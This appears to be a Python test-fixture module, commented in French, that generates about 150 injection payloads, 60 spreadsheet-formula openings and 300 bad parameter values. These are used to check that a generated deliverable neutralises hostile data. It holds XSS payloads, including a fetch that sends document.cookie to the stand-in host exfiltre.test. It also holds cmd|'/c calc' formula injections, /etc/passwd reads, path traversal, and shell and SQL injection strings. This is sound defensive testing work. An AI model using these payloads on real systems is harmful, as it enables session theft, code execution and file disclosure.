"""Ce qu'une donnée malveillante peut contenir : balises, formules, valeurs de paramètres.

Tout est engendré : une porte (nom, titre, note…) reçoit chaque charge, sous plusieurs déguisements.
"""

# ruff: noqa: E501 — des tables de charges, une par ligne

from collections.abc import Iterator
from itertools import product

PORTES = (
    "structure", "marche", "acheteur", "commune", "colonne", "parametre", "note", "territoire",
)  # fmt: skip
APPELS = ("alert(1)", "fetch('//exfiltre.test/'+document.cookie)")
MARQUE = "temoin"


def charges() -> list[str]:
    """Cent cinquante charges ; chacune finit par sa marque, que le livrable doit encore montrer."""
    return [f"{charge} {MARQUE}{rang:03}" for rang, charge in enumerate(sorted(_charges()))]


def _charges() -> set[str]:
    toutes = set()
    for appel in APPELS:
        toutes |= {
            f"<script>{appel}</script>",
            f"<ScRiPt>{appel}</sCrIpT>",
            f"<script src=//exfiltre.test/a.js>{appel}</script>",
            f"</td></tr></table><script>{appel}</script>",
            f"--><script>{appel}</script><!--",
            f"]]><script>{appel}</script>",
            f"</title><script>{appel}</script>",
            f"</style><script>{appel}</script>",
            f"<svg><script>{appel}</script></svg>",
            f"<svg/onload={appel}>",
            f"<math><mi//xlink:href='javascript:{appel}'>",
            f"<a href='javascript:{appel}'>lien</a>",
            f"<a href='JaVaScRiPt:{appel}'>lien</a>",
            f"<a href='java\u200bscript:{appel}'>lien</a>",
            f"<a href='&#106;avascript:{appel}'>lien</a>",
            f"<a href='data:text/html,<script>{appel}</script>'>lien</a>",
            f"[lien](javascript:{appel})",
            f"![image](javascript:{appel})",
            f"<iframe src='javascript:{appel}'></iframe>",
            f"<iframe srcdoc='<script>{appel}</script>'></iframe>",
            f"<object data='javascript:{appel}'></object>",
            f"<embed src='javascript:{appel}'>",
            f"<form action='javascript:{appel}'><button>ok</button></form>",
            f"<input autofocus onfocus={appel}>",
            f"<details open ontoggle={appel}>",
            f"<body onpageshow={appel}>",
            f"<meta http-equiv=refresh content='0;url=javascript:{appel}'>",
            f"<base href='javascript:{appel}//'>",
            f"<link rel=stylesheet href='javascript:{appel}'>",
            f"&lt;script&gt;{appel}&lt;/script&gt;",
            f"{{{{ {appel} }}}}",
            f"{{% raw %}}<script>{appel}</script>{{% endraw %}}",
            f'#eval("{appel}")',
            f'#read("/etc/passwd") {appel}',
            f'#link("javascript:{appel}")[lien]',
            f"`{{=html}}<script>{appel}</script>`",
            f"\\input{{/etc/passwd}} {appel}",
            f"$\\href{{javascript:{appel}}}{{x}}$",
            f'=HYPERLINK("http://exfiltre.test?"&A1,"{appel}")',
            f"=cmd|'/c calc'!A1 {appel}",
            f"'\"><script>{appel}</script>",
            f'" onmouseover="{appel}',
            f"' onerror='{appel}' x='",
        }
    evenements = ("onerror", "onload", "onclick", "onmouseover", "onfocus", "onanimationstart")
    balises = ("img src=x", "video src=x", "audio src=x", "svg", "div style=animation:a", "p")
    toutes |= {f"<{b} {e}=alert(2)>" for b, e in product(balises, evenements)}
    adresses = (
        "http://exfiltre.test/a",
        "//exfiltre.test/a",
        "file:///etc/passwd",
        "ftp://e.test/a",
    )
    porteurs = ("<img src='{}'>", "<div style=\"background:url('{}')\">", "<style>@import '{}'</style>",
                "<svg><image href='{}'/></svg>", "<link rel=attachment href='{}'>", "<video poster='{}'>",
                "<img srcset='{} 2x'>")  # fmt: skip
    toutes |= {porteur.format(adresse) for porteur, adresse in product(porteurs, adresses)}
    return toutes


def ouvertures() -> list[str]:
    """Soixante débuts de texte qu'un tableur prendrait pour une formule."""
    tetes = (
        "=",
        "+",
        "-",
        "@",
        "\t=",
        "\r=",
        "\n=",
        "＝",
        "＋",
        "－",
        "＠",
        " =",
        "\u00a0=",
        "\u202f+",
        "\0=",
    )
    suites = ("1+1", "cmd|'/c calc'!A1", 'HYPERLINK("http://exfiltre.test")', "SUM(A1:A9)")
    return [tete + suite for tete, suite in product(tetes, suites)]


def mauvaises_valeurs() -> Iterator[tuple[str, str]]:
    """Trois cents couples (paramètre, valeur) : cent pour chacun des trois paramètres."""
    communes = [
        "..", "../..", "..\\..", "/etc", "/etc/passwd", "C:\\Windows", "\\\\serveur\\part", "~", "~root",
        "%2e%2e", "%2e%2e%2f", "．．", "．．／", "。。", "\0", "a\0b", "76\n", "\n", "76\r\n", "76\t",
        " 76", "76 ", " ", "", "\u200b76", "\u202e67", "76\u202c", "\u2066", "\ufeff76", "७६", "٧٦",
        "７６", "CON", "con", "PRN", "AUX", "NUL", "COM1", "LPT9", "nul.txt", "{0.__class__}",
        "{{7*7}}", "${HOME}", "$(id)", "`id`", ";id", "|id", "&&id", "'; DROP TABLE x; --", '" OR 1=1',
        "__import__('os')", "os.system('id')", "76;31", "76,31", "76 31", "[76]", "('76',)", "None",
        "null", "nan", "inf", "-inf", "1e309", "0x4c", "0o114", "0b1001100", "7_6", "76.0", "76,0",
        "+76", "-76", "７6", "7٦", "OCCITANIE", "Occitanie", "tous", "*", "?", "[a-z]", "**/*", ".",
        "./", "./76", "76/", "76/..", "76\\", "file:///etc/passwd", "http://exfiltre.test", "<script>",
        "&#55;&#54;", "76#", "76?x=1", "é", "76é", "🏠", "a" * 300, "7" * 4000, "../" * 100,
    ]  # fmt: skip
    rares = ["\u00ad76", "76\u00a0", "true", "False", "2019.5", "deux mille"]
    valeurs = [*dict.fromkeys([*communes, *rares])]
    for parametre in ("dossier", "territoire", "annee"):
        yield from ((parametre, valeur) for valeur in valeurs[:100])
